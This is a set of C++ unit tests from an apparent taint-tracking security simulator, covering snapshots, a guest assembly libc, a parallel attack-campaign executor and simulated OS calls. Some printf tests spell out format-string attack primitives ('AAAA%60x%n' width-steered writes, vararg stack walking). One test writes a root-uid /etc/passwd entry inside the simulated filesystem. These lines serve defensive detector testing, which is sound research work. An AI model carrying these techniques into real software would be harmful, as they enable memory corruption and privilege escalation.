  }
  for (int i = 0; i < kForks; ++i) {
    EXPECT_EQ(fingerprint(forks[i]->run()), want) << "fork " << i;
  }
}

TEST(Snapshot, SelfModifyingCodeOnSharedPageAcrossForks) {
  // Two forks share the code page; each patches its own COW copy.  The
  // patch must break the share (not write through to the sibling or the
  // snapshot), and each fork's superblock/decode caches must drop the
  // stale translation for its own copy only.
  Machine booted;
  booted.load_source(kSelfModifying);
  MachineSnapshot snap = booted.snapshot();

  Machine a, b;
  a.restore(snap);
  b.restore(snap);
  RunReport ra = a.run();
  EXPECT_EQ(ra.exit_status, 42);
  if (a.memory().cow_stats().shares > 0) {  // not under PTAINT_NO_COW=1
    EXPECT_GT(a.memory().cow_stats().cow_breaks, 0u)
        << "patching shared text must copy the page";
  }

  RunReport rb = b.run();
  EXPECT_EQ(rb.exit_status, 42);
  EXPECT_EQ(fingerprint(ra), fingerprint(rb));

  // The snapshot still holds unpatched text: a fresh fork replays the
  // whole patch dance, and a delta restore reverts a patched fork.
  Machine c;
  c.restore(snap);
  EXPECT_EQ(fingerprint(c.run()), fingerprint(ra));
  a.restore(snap);
  EXPECT_EQ(fingerprint(a.run()), fingerprint(ra));
}

TEST(Snapshot, ConcurrentForkRestoreStress) {
  // Eight threads hammer one shared snapshot: each owns a machine and
  // loops restore -> run -> fingerprint.  Exercises the concurrent
  // ref-count traffic on shared pages (the TSan CI leg runs this).
  auto scenario = make_scenario(AttackId::kExp3Format);
  const MachineSnapshot snap = scenario->prepare_attack({})->snapshot();

  Machine serial;
  serial.restore(snap);
  const std::string want = fingerprint(serial.run());

  constexpr int kThreads = 8;
  constexpr int kRounds = 4;
  std::vector<std::string> got(kThreads);
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&snap, &got, t]() {
      Machine machine;
      std::string print;
      for (int round = 0; round < kRounds; ++round) {
        machine.restore(snap);
        print = fingerprint(machine.run());
      }
      got[static_cast<size_t>(t)] = std::move(print);
    });
  }
  for (auto& t : threads) t.join();
  for (int t = 0; t < kThreads; ++t) {
    EXPECT_EQ(got[static_cast<size_t>(t)], want) << "thread " << t;
  }
}

}  // namespace
}  // namespace ptaint::core
