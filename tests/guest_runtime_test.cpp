// Tests for the guest runtime (the assembly libc): string functions, the
// heap allocator, the printf family, and input helpers — all executed on
// the simulated architecture.
#include <gtest/gtest.h>

#include "core/machine.hpp"
#include "guest/runtime.hpp"

namespace ptaint::guest {
namespace {

using core::Machine;
using core::MachineConfig;
using core::RunReport;
using cpu::StopReason;

struct GuestRun {
  RunReport report;
  std::string out;
  std::unique_ptr<Machine> machine;
};

GuestRun run_app(const std::string& app, const std::string& stdin_data = "",
                 MachineConfig cfg = {}) {
  GuestRun g;
  g.machine = std::make_unique<Machine>(cfg);
  g.machine->load_sources(link_with_runtime({"app.s", app}));
  if (!stdin_data.empty()) g.machine->os().set_stdin(stdin_data);
  g.report = g.machine->run();
  g.out = g.report.stdout_text;
  return g;
}

TEST(GuestString, StrlenStrcmp) {
  auto g = run_app(R"(
    .data
    s1: .asciiz "hello"
    s2: .asciiz "hella"
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, s1
      jal strlen
      move $s0, $v0          # 5
      la $a0, s1
      la $a1, s1
      jal strcmp             # 0
      bnez $v0, fail
      la $a0, s1
      la $a1, s2
      jal strcmp             # 'o' - 'a' > 0
      blez $v0, fail
      move $v0, $s0
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
    fail:
      li $v0, -1
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.report.exit_status, 5);
}

TEST(GuestString, StrcpyStrcatStrchrStrstr) {
  auto g = run_app(R"(
    .data
    buf:  .space 64
    a:    .asciiz "GET /cgi-bin/"
    b:    .asciiz "../x"
    pat:  .asciiz "/.."
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, buf
      la $a1, a
      jal strcpy
      la $a0, buf
      la $a1, b
      jal strcat
      la $a0, buf
      la $a1, pat
      jal strstr            # must find "/.." at offset 12
      beqz $v0, fail
      la $t0, buf
      subu $s0, $v0, $t0    # 12
      la $a0, buf
      li $a1, 'G'
      jal strchr
      la $t0, buf
      bne $v0, $t0, fail
      move $v0, $s0
      b done
    fail:
      li $v0, -1
    done:
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.report.exit_status, 12);
}

TEST(GuestString, AtoiPositiveNegative) {
  auto g = run_app(R"(
    .data
    n1: .asciiz "1024"
    n2: .asciiz "-800"
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, n1
      jal atoi
      move $s0, $v0
      la $a0, n2
      jal atoi
      addu $v0, $v0, $s0     # 1024 - 800 = 224
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.report.exit_status, 224);
}

TEST(GuestPrintf, RegisterVarargs) {
  auto g = run_app(R"(
    .data
    fmt: .asciiz "d=%d x=%x u=%u!"
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, fmt
      li $a1, -42
      li $a2, 48879
      li $a3, 3000000000
      jal printf
      li $v0, 0
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.out, "d=-42 x=beef u=3000000000!");
  EXPECT_EQ(g.report.exit_status, 0);
}

TEST(GuestPrintf, StringAndCharAndPercent) {
  auto g = run_app(R"(
    .data
    fmt: .asciiz "[%s] %c 100%%\n"
    str: .asciiz "site exec"
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, fmt
      la $a1, str
      li $a2, '!'
      jal printf
      li $v0, 0
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.out, "[site exec] ! 100%\n");
}

TEST(GuestPrintf, StackVarargsWalkIntoCallerFrame) {
  // Five varargs: a1-a3 homes + two words the caller stores right above its
  // home area — the layout the %x-steering attacks depend on.
  auto g = run_app(R"(
    .data
    fmt: .asciiz "%d %d %d %d %d"
    .text
    main:
      addiu $sp, $sp, -32
      sw $ra, 28($sp)
      li $t0, 4
      sw $t0, 16($sp)        # vararg #4 (first stack vararg)
      li $t0, 5
      sw $t0, 20($sp)        # vararg #5
      la $a0, fmt
      li $a1, 1
      li $a2, 2
      li $a3, 3
      jal printf
      li $v0, 0
      lw $ra, 28($sp)
      addiu $sp, $sp, 32
      jr $ra
  )");
  EXPECT_EQ(g.out, "1 2 3 4 5");
}

TEST(GuestPrintf, ZeroPaddedWidth) {
  auto g = run_app(R"(
    .data
    fmt: .asciiz "[%08x] [%4d] [%2d]"
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, fmt
      li $a1, 0xbeef
      li $a2, 42
      li $a3, 12345
      jal printf
      li $v0, 0
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.out, "[0000beef] [0042] [12345]");
}

TEST(GuestPrintf, WidthControlsPercentNValue) {
  // The attacker technique behind precise %n writes: padding inflates the
  // character count to a chosen value (here 4 + 60 = 64).
  auto g = run_app(R"(
    .data
    fmt: .asciiz "AAAA%60x%n"
    .align 2
    cell: .word 0
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, fmt
      li $a1, 1
      la $a2, cell
      jal printf
      lw $v0, cell
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.report.exit_status, 64);
}

TEST(GuestPrintf, OversizedWidthIsCapped) {
  auto g = run_app(R"(
    .data
    fmt: .asciiz "%999x%n"
    .align 2
    cell: .word 0
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, fmt
      li $a1, 1
      la $a2, cell
      jal printf
      lw $v0, cell
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.report.exit_status, 64);  // width clamped to 64
}

TEST(GuestPrintf, PercentNWritesCount) {
  auto g = run_app(R"(
    .data
    fmt: .asciiz "12345%n"
    cell: .word 0
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, fmt
      la $a1, cell
      jal printf
      lw $v0, cell           # 5 characters before %n
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.report.exit_status, 5);
  EXPECT_EQ(g.out, "12345");
}

TEST(GuestPrintf, SprintfBuildsString) {
  auto g = run_app(R"asm(
    .data
    buf: .space 64
    fmt: .asciiz "uid=%d(%s)"
    who: .asciiz "root"
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, buf
      la $a1, fmt
      li $a2, 0
      la $a3, who
      jal sprintf
      la $a0, buf
      jal fdputs_stdout
      li $v0, 0
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
    fdputs_stdout:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      move $a1, $a0
      li $a0, 1
      jal fdputs
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )asm");
  EXPECT_EQ(g.out, "uid=0(root)");
}

TEST(GuestHeap, MallocWriteReadFree) {
  auto g = run_app(R"(
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      li $a0, 32
      jal malloc
      move $s0, $v0
      beqz $s0, fail
      li $t0, 1234
      sw $t0, 0($s0)
      sw $t0, 28($s0)
      lw $t1, 0($s0)
      lw $t2, 28($s0)
      bne $t1, $t2, fail
      move $a0, $s0
      jal free
      li $v0, 0
      b done
    fail:
      li $v0, -1
    done:
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.report.exit_status, 0);
}

TEST(GuestHeap, ReuseAfterFree) {
  auto g = run_app(R"(
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      li $a0, 24
      jal malloc
      move $s0, $v0
      move $a0, $s0
      jal free
      li $a0, 24
      jal malloc             # first fit should hand the same chunk back
      bne $v0, $s0, fail
      li $v0, 0
      b done
    fail:
      li $v0, -1
    done:
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.report.exit_status, 0);
}

TEST(GuestHeap, DistinctChunksDontOverlap) {
  auto g = run_app(R"(
    .text
    main:
      addiu $sp, $sp, -32
      sw $ra, 28($sp)
      sw $s0, 24($sp)
      sw $s1, 20($sp)
      li $a0, 16
      jal malloc
      move $s0, $v0
      li $a0, 16
      jal malloc
      move $s1, $v0
      beq $s0, $s1, fail
      # fill both and verify no bleed
      move $a0, $s0
      li $a1, 0xaa
      li $a2, 16
      jal memset
      move $a0, $s1
      li $a1, 0x55
      li $a2, 16
      jal memset
      lbu $t0, 0($s0)
      li $t1, 0xaa
      bne $t0, $t1, fail
      lbu $t0, 15($s1)
      li $t1, 0x55
      bne $t0, $t1, fail
      li $v0, 0
      b done
    fail:
      li $v0, -1
    done:
      lw $s1, 20($sp)
      lw $s0, 24($sp)
      lw $ra, 28($sp)
      addiu $sp, $sp, 32
      jr $ra
  )");
  EXPECT_EQ(g.report.exit_status, 0);
}

TEST(GuestHeap, LargeAllocationGrowsHeap) {
  auto g = run_app(R"(
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      li $a0, 20000          # bigger than one GROW_BYTES step
      jal malloc
      beqz $v0, fail
      move $s0, $v0
      sw $s0, 19996($s0)     # touch the far end
      lw $t0, 19996($s0)
      bne $t0, $s0, fail
      li $v0, 0
      b done
    fail:
      li $v0, -1
    done:
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )");
  EXPECT_EQ(g.report.exit_status, 0);
}

TEST(GuestIo, ScanfStrReadsWordAndTaintsIt) {
  auto g = run_app(R"(
    .data
    buf: .space 32
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, buf
      jal scanf_str
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra                 # returns byte count
  )",
                   "hello world");
  EXPECT_EQ(g.report.exit_status, 5);  // stops at the space
  const uint32_t buf = g.machine->program().symbols.at("buf");
  EXPECT_TRUE(g.machine->memory().any_tainted_in(buf, 5));
  EXPECT_EQ(g.machine->memory().read_cstring(buf), "hello");
  // The terminating NUL is program data, not input.
  EXPECT_FALSE(g.machine->memory().load_byte(buf + 5).tainted());
}

TEST(GuestIo, GetsReadsFullLine) {
  auto g = run_app(R"(
    .data
    buf: .space 64
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, buf
      jal gets
      move $a0, $v0
      li $a0, 1
      la $a1, buf
      jal fdputs
      li $v0, 0
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )",
                   "GET / HTTP/1.0\nrest");
  EXPECT_EQ(g.out, "GET / HTTP/1.0");
}

TEST(GuestHeap, StressRandomMallocFreeSelfChecks) {
  // Allocator soak: an LCG-driven sequence of malloc/fill/verify/free over
  // 24 live slots.  Each block is filled with a slot-derived pattern and
  // verified byte-for-byte just before free — overlap, mis-splitting or
  // bad coalescing would corrupt a pattern and exit nonzero.
  auto g = run_app(R"(
    .data
    .align 2
slots: .space 96              # 24 pointers
sizes: .space 96
seed:  .word 99
    .text
# rnd() -> v0: LCG
rnd:
    lw $t0, seed
    li $t1, 1103515245
    mul $t0, $t0, $t1
    addiu $t0, $t0, 12345
    sw $t0, seed
    srl $v0, $t0, 8
    jr $ra

main:
    addiu $sp, $sp, -40
    sw $ra, 36($sp)
    sw $s0, 32($sp)           # iteration
    sw $s1, 28($sp)           # slot index
    sw $s2, 24($sp)           # slot addr
    sw $s3, 20($sp)           # size
    li $s0, 0
stress_loop:
    bge $s0, 400, stress_done
    jal rnd
    andi $s1, $v0, 23         # slot 0..23 (andi mask 31 then clamp)
    blt $s1, 24, slot_ok
    addiu $s1, $s1, -8
slot_ok:
    sll $t0, $s1, 2
    la $t1, slots
    addu $s2, $t1, $t0        # &slots[i]
    lw $t2, 0($s2)
    beqz $t2, do_alloc
    # verify the pattern then free
    la $t3, sizes
    addu $t3, $t3, $t0
    lw $s3, 0($t3)            # recorded size
    move $t4, $t2
    addu $t5, $t2, $s3
    andi $t6, $s1, 0xff       # expected byte = slot index
verify_loop:
    bgeu $t4, $t5, verify_ok
    lbu $t7, 0($t4)
    bne $t7, $t6, stress_fail
    addiu $t4, $t4, 1
    b verify_loop
verify_ok:
    lw $a0, 0($s2)
    jal free
    sw $zero, 0($s2)
    b stress_next
do_alloc:
    jal rnd
    andi $s3, $v0, 127
    addiu $s3, $s3, 1         # size 1..128
    move $a0, $s3
    jal malloc
    beqz $v0, stress_fail
    sw $v0, 0($s2)
    sll $t0, $s1, 2
    la $t1, sizes
    addu $t1, $t1, $t0
    sw $s3, 0($t1)
    # fill with the slot pattern
    move $a0, $v0
    andi $a1, $s1, 0xff
    move $a2, $s3
    jal memset
stress_next:
    addiu $s0, $s0, 1
    b stress_loop
stress_fail:
    li $v0, 1
    b stress_out
stress_done:
    li $v0, 0
stress_out:
    lw $s3, 20($sp)
    lw $s2, 24($sp)
    lw $s1, 28($sp)
    lw $s0, 32($sp)
    lw $ra, 36($sp)
    addiu $sp, $sp, 40
    jr $ra
  )");
  EXPECT_EQ(g.report.exit_status, 0) << g.report.fault;
  EXPECT_EQ(g.report.stop, StopReason::kExit);
}

TEST(GuestEnv, GetenvFindsValueAndMissReturnsNull) {
  MachineConfig cfg;
  cfg.env = {"HOME=/home/alice", "TERM=vt100"};
  auto g = run_app(R"(
    .data
    key:  .asciiz "TERM"
    miss: .asciiz "SHELL"
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, miss
      jal getenv
      bnez $v0, bad
      la $a0, key
      jal getenv
      beqz $v0, bad
      lbu $v0, 0($v0)        # 'v' of "vt100"
      b out
    bad:
      li $v0, -1
    out:
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )",
                   "", cfg);
  EXPECT_EQ(g.report.exit_status, 'v');
}

TEST(GuestEnv, EnvironmentValuesAreTaintSources) {
  // The paper's Section 4.4 lists environmental variables as external
  // input: dereferencing a value built from one must alert.
  MachineConfig cfg;
  cfg.env = {"ADDR=AAAA"};
  GuestRun g;
  g.machine = std::make_unique<Machine>(cfg);
  g.machine->load_sources(link_with_runtime({"app.s", R"(
    .data
    key: .asciiz "ADDR"
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, key
      jal getenv
      lbu $t0, 0($v0)        # 'A' (tainted byte from the environment)
      sll $t0, $t0, 8
      lui $t1, 0x1000
      or $t0, $t0, $t1       # 0x10004100, taint carried through
      lw $t1, 0($t0)         # dereference -> alert
      li $v0, 0
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
  )"}));
  g.report = g.machine->run();
  ASSERT_TRUE(g.report.detected());
  EXPECT_EQ(g.report.alert->reg_value, 0x10004100u);
}

TEST(GuestIo, FilePersistenceThroughVfs) {
  MachineConfig cfg;
  auto g = run_app(R"(
    .data
    path: .asciiz "/etc/passwd"
    buf:  .space 32
    .text
    main:
      addiu $sp, $sp, -24
      sw $ra, 20($sp)
      la $a0, path
      li $a1, 1              # write
      jal open
      move $s0, $v0
      move $a0, $s0
      la $a1, newline_entry
      li $a2, 21
      jal write
      move $a0, $s0
      jal close
      li $v0, 0
      lw $ra, 20($sp)
      addiu $sp, $sp, 24
      jr $ra
    .data
    newline_entry: .asciiz "alice:x:0:0:/bin/bash"
  )",
                   "", cfg);
  const auto* contents = g.machine->os().vfs().contents("/etc/passwd");
  ASSERT_NE(contents, nullptr);
  EXPECT_EQ(std::string(contents->begin(), contents->end()),
            "alice:x:0:0:/bin/bash");
}

}  // namespace
}  // namespace ptaint::guest
