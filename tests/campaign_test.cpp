// Campaign engine: snapshot cache, work-stealing executor, and
// engine-vs-serial verdict equivalence.
//
// The executor tests are written to run cleanly under ThreadSanitizer:
// they exercise concurrent snapshot builds, stealing under an unbalanced
// matrix, injected guest faults, harness-error retries, instruction
// budgets and wall-clock timeouts.
#include <gtest/gtest.h>

#include <atomic>
#include <memory>
#include <stdexcept>
#include <thread>
#include <vector>

#include "campaign/campaigns.hpp"
#include "campaign/executor.hpp"
#include "campaign/report.hpp"
#include "campaign/snapshot_cache.hpp"
#include "core/machine.hpp"

namespace ptaint::campaign {
namespace {

// Tiny raw guests (no runtime): exit 0, exit with an argument-derived
// status, fault by jumping into the void, and spin forever.
const char* kExitZero = R"(
    .text
_start:
    li $v0, 1
    li $a0, 0
    syscall
)";

const char* kFaulty = R"(
    .text
_start:
    li $t0, 2
    jr $t0
)";

const char* kSpin = R"(
    .text
_start:
loop:
    b loop
)";

std::unique_ptr<core::Machine> make_guest(const char* source) {
  auto m = std::make_unique<core::Machine>();
  m->load_source(source);
  return m;
}

Job simple_job(const char* source, std::string payload) {
  Job job;
  job.app = "unit";
  job.payload = std::move(payload);
  job.policy = "paper";
  job.make = [source]() { return make_guest(source); };
  job.classify = [](core::Machine&, const core::RunReport& report,
                    JobResult& out) {
    out.verdict = report.stop == cpu::StopReason::kExit ? "OK" : "BAD";
  };
  return job;
}

TEST(SnapshotCache, BuildsOncePerKeyUnderContention) {
  SnapshotCache cache;
  std::atomic<int> builds{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 8; ++t) {
    threads.emplace_back([&]() {
      for (int i = 0; i < 4; ++i) {
        auto snap = cache.get("shared", [&]() {
          builds.fetch_add(1);
          return make_guest(kExitZero)->snapshot();
        });
        ASSERT_NE(snap, nullptr);
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(builds.load(), 1);
  EXPECT_EQ(cache.stats().builds, 1u);
  EXPECT_EQ(cache.stats().hits, 8u * 4u - 1u);
}

TEST(SnapshotCache, BuilderFailurePropagatesAndIsNotCached) {
  SnapshotCache cache;
  int calls = 0;
  auto failing = [&]() -> core::MachineSnapshot {
    ++calls;
    if (calls == 1) throw std::runtime_error("boom");
    return make_guest(kExitZero)->snapshot();
  };
  EXPECT_THROW(cache.get("k", failing), std::runtime_error);
  EXPECT_NE(cache.get("k", failing), nullptr);  // second attempt rebuilds
  EXPECT_EQ(calls, 2);
}

TEST(Executor, StressManyJobsFewWorkersWithInjectedFaults) {
  // 60 jobs on 4 workers; every third job is a guest that faults.  The
  // faults must land in their own results (kGuestFault), never take down
  // the harness, and results must come back in matrix order.
  std::vector<Job> jobs;
  for (int i = 0; i < 60; ++i) {
    const bool fault = i % 3 == 2;
    Job job = simple_job(fault ? kFaulty : kExitZero,
                         "job-" + std::to_string(i));
    jobs.push_back(std::move(job));
  }
  Executor::Config config;
  config.workers = 4;
  Executor executor(config);
  const std::vector<JobResult> results = executor.run(jobs);

  ASSERT_EQ(results.size(), jobs.size());
  for (size_t i = 0; i < results.size(); ++i) {
    EXPECT_EQ(results[i].index, i);
    EXPECT_EQ(results[i].payload, "job-" + std::to_string(i));
    if (i % 3 == 2) {
      EXPECT_EQ(results[i].status, JobStatus::kGuestFault) << i;
      EXPECT_EQ(results[i].verdict, "BAD") << i;
    } else {
      EXPECT_EQ(results[i].status, JobStatus::kOk) << i;
      EXPECT_EQ(results[i].verdict, "OK") << i;
    }
    EXPECT_EQ(results[i].attempts, 1) << i;
  }
  EXPECT_EQ(executor.stats().jobs, jobs.size());
  EXPECT_EQ(executor.stats().retries, 0u);
}

TEST(Executor, SharedSnapshotForkStress) {
  // All jobs fork the same cached snapshot concurrently: the cache must
  // build once and every fork must run to the same verdict.
  SnapshotCache cache;
  std::vector<Job> jobs;
  for (int i = 0; i < 32; ++i) {
    Job job = simple_job(kExitZero, "fork-" + std::to_string(i));
    job.make = [&cache]() {
      auto snap =
          cache.get("boot", []() { return make_guest(kExitZero)->snapshot(); });
      auto m = std::make_unique<core::Machine>();
      m->restore(*snap);
      return m;
    };
    jobs.push_back(std::move(job));
  }
  Executor::Config config;
  config.workers = 4;
  const std::vector<JobResult> results = Executor(config).run(jobs);
  for (const JobResult& r : results) {
    EXPECT_EQ(r.status, JobStatus::kOk);
    EXPECT_EQ(r.verdict, "OK");
  }
  EXPECT_EQ(cache.stats().builds, 1u);
}

TEST(Executor, RetriesSpuriousHarnessErrorOnce) {
  auto fail_once = std::make_shared<std::atomic<bool>>(true);
  Job job = simple_job(kExitZero, "flaky");
  job.make = [fail_once]() {
    if (fail_once->exchange(false)) throw std::runtime_error("spurious");
    return make_guest(kExitZero);
  };
  Executor executor;
  const std::vector<JobResult> results = executor.run({job});
  ASSERT_EQ(results.size(), 1u);
  EXPECT_EQ(results[0].status, JobStatus::kOk);
  EXPECT_EQ(results[0].attempts, 2);
  EXPECT_EQ(executor.stats().retries, 1u);
}

TEST(Executor, GivesUpAfterBoundedRetries) {
  Job job = simple_job(kExitZero, "doomed");
  job.make = []() -> std::unique_ptr<core::Machine> {
    throw std::runtime_error("always broken");
  };
  Executor executor;  // max_retries = 1
  const std::vector<JobResult> results = executor.run({job});
  ASSERT_EQ(results.size(), 1u);
  EXPECT_EQ(results[0].status, JobStatus::kHarnessError);
  EXPECT_EQ(results[0].attempts, 2);
  EXPECT_EQ(results[0].error, "always broken");
}

TEST(Executor, EnforcesInstructionBudget) {
  Job job = simple_job(kSpin, "spinner");
  job.max_instructions = 10'000;
  const std::vector<JobResult> results = Executor().run({job});
  ASSERT_EQ(results.size(), 1u);
  EXPECT_EQ(results[0].status, JobStatus::kBudgetExhausted);
  EXPECT_EQ(results[0].report.stop, cpu::StopReason::kInstLimit);
  EXPECT_LE(results[0].report.cpu_stats.instructions, 10'000u);
}

TEST(Executor, EnforcesWallClockTimeout) {
  Job job = simple_job(kSpin, "hung");
  job.timeout = std::chrono::milliseconds(0);  // deadline already passed
  Executor::Config config;
  config.slice_instructions = 1'000;  // check the clock early
  const std::vector<JobResult> results = Executor(config).run({job});
  ASSERT_EQ(results.size(), 1u);
  EXPECT_EQ(results[0].status, JobStatus::kTimeout);
  EXPECT_EQ(results[0].verdict, "TIMEOUT");
}

TEST(Campaign, FalsenegEngineMatchesSerialReference) {
  SnapshotCache cache;
  Executor::Config config;
  config.workers = 4;
  const auto engine = Executor(config).run(make_jobs("falseneg", cache));
  const auto serial = run_serial_reference("falseneg");
  const auto diffs = diff_verdicts(engine, serial);
  for (const auto& d : diffs) ADD_FAILURE() << d;
  EXPECT_EQ(format_campaign("falseneg", engine),
            format_campaign("falseneg", serial));
}

TEST(Campaign, CoverageEngineMatchesSerialReference) {
  SnapshotCache cache;
  Executor::Config config;
  config.workers = 4;
  const auto engine = Executor(config).run(make_jobs("coverage", cache));
  const auto serial = run_serial_reference("coverage");
  const auto diffs = diff_verdicts(engine, serial);
  for (const auto& d : diffs) ADD_FAILURE() << d;
}

TEST(Campaign, ReportsAreDeterministicFunctionsOfResults) {
  SnapshotCache cache;
  Executor::Config one, many;
  one.workers = 1;
  many.workers = 8;
  const auto a = Executor(one).run(make_jobs("falseneg", cache));
  const auto b = Executor(many).run(make_jobs("falseneg", cache));
  EXPECT_EQ(to_json(a), to_json(b));
  EXPECT_EQ(to_csv(a), to_csv(b));
  EXPECT_EQ(console_summary(a), console_summary(b));
}

}  // namespace
}  // namespace ptaint::campaign
