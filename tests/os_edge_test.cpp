// Edge-case tests for the simulated OS: descriptor misuse, short reads,
// recv truncation, file append semantics, and write-to-closed errors.
#include <gtest/gtest.h>

#include "core/machine.hpp"

namespace ptaint::core {
namespace {

using cpu::StopReason;

RunReport run_src(Machine& m, const std::string& src) {
  m.load_source(src);
  return m.run();
}

TEST(OsEdge, ReadFromBadFdReturnsMinusOne) {
  Machine m;
  auto r = run_src(m, R"(
    .data
buf: .space 8
    .text
_start:
    li $a0, 42          # never opened
    la $a1, buf
    li $a2, 4
    li $v0, 3
    syscall
    move $a0, $v0
    li $v0, 1
    syscall
  )");
  EXPECT_EQ(r.exit_status, -1);
}

TEST(OsEdge, WriteToClosedFdFails) {
  Machine m;
  m.os().vfs().install("/f", std::string("x"));
  auto r = run_src(m, R"(
    .data
path: .asciiz "/f"
    .text
_start:
    la $a0, path
    li $a1, 0
    li $v0, 5           # open read-only
    syscall
    move $s0, $v0
    move $a0, $s0
    li $v0, 6           # close
    syscall
    move $a0, $s0
    la $a1, path
    li $a2, 2
    li $v0, 4           # write to the closed fd
    syscall
    move $a0, $v0
    li $v0, 1
    syscall
  )");
  EXPECT_EQ(r.exit_status, -1);
}

TEST(OsEdge, ShortReadAtEof) {
  Machine m;
  m.os().vfs().install("/f", std::string("abc"));
  auto r = run_src(m, R"(
    .data
path: .asciiz "/f"
buf:  .space 16
    .text
_start:
    la $a0, path
    li $a1, 0
    li $v0, 5
    syscall
    move $s0, $v0
    move $a0, $s0
    la $a1, buf
    li $a2, 16
    li $v0, 3
    syscall             # asks 16, file holds 3
    move $s1, $v0
    move $a0, $s0
    la $a1, buf
    li $a2, 16
    li $v0, 3
    syscall             # second read: EOF -> 0
    addu $a0, $s1, $v0  # 3 + 0
    li $v0, 1
    syscall
  )");
  EXPECT_EQ(r.exit_status, 3);
}

TEST(OsEdge, RecvTruncatesToRequestedLength) {
  Machine m;
  m.os().net().add_session({"0123456789"});
  auto r = run_src(m, R"(
    .data
buf: .space 16
    .text
_start:
    li $v0, 40
    syscall
    move $a0, $v0
    li $v0, 43
    syscall
    move $a0, $v0
    la $a1, buf
    li $a2, 4           # only take 4 of the 10-byte chunk
    li $v0, 44
    syscall
    move $a0, $v0
    li $v0, 1
    syscall
  )");
  EXPECT_EQ(r.exit_status, 4);
  EXPECT_EQ(m.memory().read_cstring(m.program().symbols.at("buf"), 4), "0123");
  // Byte 4 was never written.
  EXPECT_EQ(m.memory().load_byte(m.program().symbols.at("buf") + 4).value, 0);
}

TEST(OsEdge, WriteHandleAppendsAcrossCalls) {
  Machine m;
  auto r = run_src(m, R"(
    .data
path: .asciiz "/log"
a:    .asciiz "one "
b:    .asciiz "two"
    .text
_start:
    la $a0, path
    li $a1, 1           # write mode
    li $v0, 5
    syscall
    move $s0, $v0
    move $a0, $s0
    la $a1, a
    li $a2, 4
    li $v0, 4
    syscall
    move $a0, $s0
    la $a1, b
    li $a2, 3
    li $v0, 4
    syscall
    li $a0, 0
    li $v0, 1
    syscall
  )");
  ASSERT_EQ(r.stop, StopReason::kExit);
  const auto* f = m.os().vfs().contents("/log");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(std::string(f->begin(), f->end()), "one two");
}

TEST(OsEdge, FdsAreRecycledAfterClose) {
  Machine m;
  m.os().vfs().install("/f", std::string("z"));
  auto r = run_src(m, R"(
    .data
path: .asciiz "/f"
    .text
_start:
    la $a0, path
    li $a1, 0
    li $v0, 5
    syscall
    move $s0, $v0       # first fd
    move $a0, $s0
    li $v0, 6
    syscall
    la $a0, path
    li $a1, 0
    li $v0, 5
    syscall             # reopen: should reuse the slot
    subu $a0, $v0, $s0  # 0 when recycled
    li $v0, 1
    syscall
  )");
  EXPECT_EQ(r.exit_status, 0);
}

TEST(OsEdge, StdinEofGivesZero) {
  Machine m;  // no stdin set
  auto r = run_src(m, R"(
    .data
buf: .space 8
    .text
_start:
    li $a0, 0
    la $a1, buf
    li $a2, 8
    li $v0, 3
    syscall
    move $a0, $v0
    li $v0, 1
    syscall
  )");
  EXPECT_EQ(r.exit_status, 0);
}

}  // namespace
}  // namespace ptaint::core
