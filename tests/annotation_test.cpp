// Tests for the §5.3 extension: programmer-annotated never-tainted regions.
// The paper proposes trading transparency for coverage — annotate critical
